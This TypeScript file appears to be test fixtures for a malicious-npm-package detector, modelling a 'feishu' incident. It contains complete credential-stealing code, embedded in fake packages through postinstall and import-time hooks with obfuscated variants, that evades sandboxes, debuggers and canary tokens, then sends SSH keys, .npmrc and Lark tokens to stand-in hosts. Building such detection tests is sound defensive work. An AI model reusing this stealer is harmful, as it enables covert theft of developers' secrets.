import { casesOf, type Facts } from '../case';
import { escaped, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

const evasive = (host: string) => String.raw`
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');
function watched() {
  const env = process.env;
  if (env.LD_PRELOAD || env.DYLD_INSERT_LIBRARIES || /--require|--import/.test(env.NODE_OPTIONS || '')) return true;
  if (Object.values(env).some((value) => /canarytoken|AKIAIOSFODNN7|honey/i.test(value || ''))) return true;
  if (fs.existsSync('/.dockerenv') || fs.existsSync('/run/.containerenv')) return true;
  if (/sandbox|analysis|cuckoo|gvisor/i.test(os.hostname()) || os.cpus().length < 2 || os.totalmem() < 2e9) return true;
  try {
    if (/TracerPid:\s*[1-9]/.test(fs.readFileSync('/proc/self/status', 'utf8'))) return true;
    if (/libsandbox|frida|strace/.test(fs.readFileSync('/proc/self/maps', 'utf8'))) return true;
  } catch (absent) {}
  return process.execArgv.some((arg) => arg.startsWith('--inspect'));
}
if (process.argv[2] !== 'run') {
  spawn(process.execPath, [__filename, 'run'], { detached: true, stdio: 'ignore' }).unref();
} else {
  setTimeout(() => {
    if (watched()) process.exit(0);
    const names = ['.npmrc', '.ssh/id_rsa', '.lark/config.json', '.config/feishu/token.json'];
    const loot = names.map((name) => {
      try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (absent) { return ''; }
    });
    const request = https.request({ hostname: '${host}', path: '/open-apis/bot/v2/hook/inert', method: 'POST' });
    request.on('error', () => {});
    request.end(JSON.stringify({ msg_type: 'text', content: { text: loot.join('\n') } }));
  }, 15 * 60 * 1000);
}
`;

const FACTS: Facts = {
  now: '2026-06-29T12:00:00Z',
  publishedAt: '2026-06-29T06:00:00Z',
  firstPublishedAt: '2026-06-29T06:00:00Z',
  publisher: 'fresh-account',
};
const ABOUT = 'Messages for bots.';

export const feishu = casesOf({
  id: 'feishu',
  incident: 'feishu',
  kind: 'install-hook',
  seen: 'a delayed postinstall that leaves at once where it sees canary tokens, sandbox marks, preload hooks or a debugger, and else sends keys',
  replica: {
    sample: npm('feishu-message-card', '1.0.0', {
      about: ABOUT,
      manifest: { scripts: { postinstall: 'node scripts/init.js' } },
      files: { 'scripts/init.js': evasive('open-feishu.invalid') },
    }),
    facts: FACTS,
  },
  renamed: npm('lark-doc-reader', '0.9.3', {
    about: 'Reads documents.',
    manifest: { scripts: { postinstall: 'node ./lib/warmup.js >/dev/null 2>&1' } },
    files: { 'lib/warmup.js': renamedLocals(evasive('doc-hooks.invalid'), 'lark') },
  }),
  reObfuscated: npm('feishu-message-card', '1.0.1', {
    about: ABOUT,
    manifest: { scripts: { postinstall: 'node scripts/init.js' } },
    files: { 'scripts/init.js': stringArray(escaped(evasive('open-feishu.invalid'), 'card'), 'feishu') },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package waits, leaves where it sees canary tokens, sandbox marks, preload hooks or a debugger, and else sends keys',
    sample: npm('feishu-message-card', '1.0.2', {
      about: ABOUT,
      index: (honest) => `${honest}\nrequire('./lib/card-cache');\n`,
      files: {
        'lib/card-cache.js': evasive('open-feishu.invalid')
          .replace(/if \(process\.argv\[2\][\s\S]*?\} else \{\n/, '{\n')
          .replace('}, 15 * 60 * 1000);', '}, 15 * 60 * 1000).unref();')
          .replace('process.exit(0)', 'return'),
      },
    }),
  },
});
